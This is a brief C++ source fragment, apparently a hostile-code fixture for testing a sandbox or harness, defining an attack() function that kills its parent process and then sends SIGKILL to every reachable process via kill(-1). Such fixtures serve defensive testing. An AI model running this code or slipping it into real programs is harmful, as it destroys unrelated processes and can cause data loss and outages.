// Hostile: kills its parent, and everything else
#include <csignal>
#include <unistd.h>

#include "every_function.hpp"

namespace {

void attack() {
    ::kill(::getppid(), SIGKILL);
    ::kill(-1, SIGKILL);
}

} // namespace
